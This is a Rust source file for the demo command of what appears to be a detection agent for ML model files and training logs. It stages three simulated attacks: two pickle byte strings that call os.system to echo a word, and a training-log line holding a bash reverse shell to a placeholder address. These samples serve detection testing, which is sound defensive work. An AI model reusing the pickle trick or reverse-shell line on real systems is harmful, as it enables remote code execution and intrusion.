//! `lanner demo`: three harmless attacks against a running agent, for the first minute.

use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, bail};
use tokio::sync::mpsc;

use super::say;
use crate::agent::{Agent, Settings};
use crate::alert::render::text;
use crate::config::{self, Config};
use crate::event::{Alert, Severity};
use crate::sinks::{BoxFuture, Sink, SinkError};
use crate::sources::{filesystem, logs};

/// How long an alert may take until the demonstration has failed.
const PATIENCE: Duration = Duration::from_secs(30);

#[derive(clap::Args)]
pub struct Args {
    /// Leave the temporary directory, to look at what was staged.
    #[arg(long)]
    keep: bool,
}

/// One attack: what is staged, which rule must tell of it, and what that means.
struct Act {
    title: &'static str,
    path: &'static str,
    content: &'static [u8],
    rule: &'static str,
    meaning: &'static str,
}

/// A model as the agent knows it: a dictionary of numbers.
const HARMLESS: &[u8] =
    b"\x80\x02}q\x00(X\x06\x00\x00\x00weightq\x01G?\xe0\x00\x00\x00\x00\x00\x00X\x04\x00\x00\x00biasq\x02K\x01u.";
/// The same model, with a call in front that would print a word.
const SWAPPED: &[u8] = b"\x80\x02cposix\nsystem\nX\x11\x00\x00\x00echo lanner-demo1\x85R0}q\x00(X\x06\x00\x00\x00weightq\x01G?\xe0\x00\x00\x00\x00\x00\x00X\x04\x00\x00\x00biasq\x02K\x01u.";
/// A pickle that would print a word, in the oldest protocol.
const DROPPED: &[u8] = b"cos\nsystem\n(S'echo lanner-demo2'\ntR.";
const SHELL: &[u8] = b"epoch 3 step 1200 loss 0.1837\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";

const ACTS: [Act; 3] = [
    Act {
        title: "A model that the agent knows is swapped in place",
        path: "models/fraud-clf/model.pkl",
        content: SWAPPED,
        rule: "DIF-001",
        meaning: "The file kept its name, and whoever loads it runs a command. Lanner hashes what is written, \
                  compares it with the version before, and tells what the new bytes can do that the old could not.",
    },
    Act {
        title: "A pickle that would call os.system is dropped into the model directory",
        path: "models/downloads/encoder.pt",
        content: DROPPED,
        rule: "SCN-002",
        meaning: "A pickle is a program. Lanner runs it on an abstract machine that loads nothing, \
                  and sees which functions it would call.",
    },
    Act {
        title: "A training job opens a reverse shell",
        path: "logs/train.log",
        content: SHELL,
        rule: "TRN-004",
        meaning: "The job's own output gives the intruder away. Lanner follows logs through rotation and restarts.",
    },
];

pub fn run(args: &Args) -> anyhow::Result<ExitCode> {
    let directory = directory()?;
    let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build()?;
    let result = runtime.block_on(play(&directory));
    drop(runtime);
    if args.keep {
        say(&format!("What was staged is in {}", directory.display()))?;
    } else {
        std::fs::remove_dir_all(&directory)?;
    }
    result.map(|()| ExitCode::SUCCESS)
}

/// A new directory that nobody else could have made.
fn directory() -> anyhow::Result<PathBuf> {
    let root = std::env::temp_dir();
    let process = std::process::id();
    for attempt in 0..100 {
        let path = root.join(format!("lanner-demo-{process}-{attempt}"));
        if std::fs::create_dir(&path).is_ok() {
            return Ok(path);
        }
    }
    bail!("no temporary directory can be made in `{}`", root.display())
}

async fn play(directory: &Path) -> anyhow::Result<()> {
    let bold = anstyle::Style::new().bold();
    for folder in ["models/fraud-clf", "models/downloads", "logs"] {
        std::fs::create_dir_all(directory.join(folder))?;
    }
    std::fs::write(directory.join(ACTS[0].path), HARMLESS)?;
    std::fs::write(directory.join(ACTS[2].path), b"epoch 1 step 400 loss 0.4112\n")?;
    say(&format!(
        "{bold}An agent watches {}{bold:#} (nothing is loaded, every payload only would print a word)\n",
        directory.display()
    ))?;
    let (sender, mut alerts) = mpsc::channel(64);
    let agent = start(directory, sender).await?;
    tokio::time::timeout(PATIENCE, ready(&agent)).await.context("the agent did not complete its first look in time")?;
    for (number, act) in ACTS.iter().enumerate() {
        say(&format!("{bold}{}. {}{bold:#}", number + 1, act.title))?;
        say(&format!("   {} is written\n", act.path))?;
        stage(directory, act)?;
        tokio::time::timeout(PATIENCE, show(&mut alerts, act))
            .await
            .with_context(|| format!("no alert of rule {} came within {PATIENCE:?}; please report this", act.rule))??;
        say(&format!("   {}\n", act.meaning))?;
    }
    say(
        "Next: `lanner run` watches ./models, `lanner scan PATH` looks into files, `lanner rules list` shows what is detected.",
    )?;
    agent.stop().await;
    Ok(())
}

async fn start(directory: &Path, alerts: mpsc::Sender<Alert>) -> anyhow::Result<Agent> {
    let mut config = Config::default();
    config.state.path = directory.join("state");
    config.sources.filesystem.push(filesystem::Config {
        name: "models".to_owned(),
        paths: vec![directory.join("models")],
        ..filesystem::Config::default()
    });
    config.sources.logs.push(logs::Config {
        name: "jobs".to_owned(),
        paths: vec![directory.join("logs/*.log").display().to_string()],
        ..logs::Config::default()
    });
    let places = config::load::Places::default();
    let mut checked = config::check(config, &places)
        .map_err(|problems| anyhow::anyhow!("{}", problems.first().map(ToString::to_string).unwrap_or_default()))?;
    checked.sinks.push(Arc::new(Stage { alerts }));
    let settings = Settings { without_http: true, ..Settings::default() };
    Ok(Agent::start(checked, settings).await?)
}

async fn ready(agent: &Agent) {
    while !agent.readiness.is_ready() {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Files are appended to when they are logs, and replaced when they are models.
fn stage(directory: &Path, act: &Act) -> anyhow::Result<()> {
    use std::io::Write as _;
    let path = directory.join(act.path);
    if act.path.starts_with("logs/") {
        std::fs::OpenOptions::new().append(true).open(path)?.write_all(act.content)?;
    } else {
        std::fs::write(path, act.content)?;
    }
    Ok(())
}

/// Shows alerts until the one that the act must lead to, and those that come with it.
async fn show(alerts: &mut mpsc::Receiver<Alert>, act: &Act) -> anyhow::Result<()> {
    let mut found = false;
    loop {
        let next = if found {
            // What belongs to the same act follows at once.
            tokio::time::timeout(Duration::from_millis(700), alerts.recv()).await.ok().flatten()
        } else {
            alerts.recv().await
        };
        let Some(alert) = next else {
            return if found { Ok(()) } else { bail!("the agent ended") };
        };
        found |= alert.rule.id == act.rule;
        for line in text::alert(&alert).lines() {
            say(&format!("   {line}"))?;
        }
        say("")?;
    }
}

/// Hands alerts to the stage.
struct Stage {
    alerts: mpsc::Sender<Alert>,
}

impl Sink for Stage {
    fn name(&self) -> &'static str {
        "demo"
    }

    fn minimum_severity(&self) -> Severity {
        Severity::Low
    }

    fn batch_max(&self) -> usize {
        16
    }

    fn deliver<'a>(&'a self, alerts: &'a [Alert]) -> BoxFuture<'a, Result<(), SinkError>> {
        Box::pin(async move {
            for alert in alerts {
                self.alerts.send(alert.clone()).await.map_err(|_| SinkError::Gone)?;
            }
            Ok(())
        })
    }
}
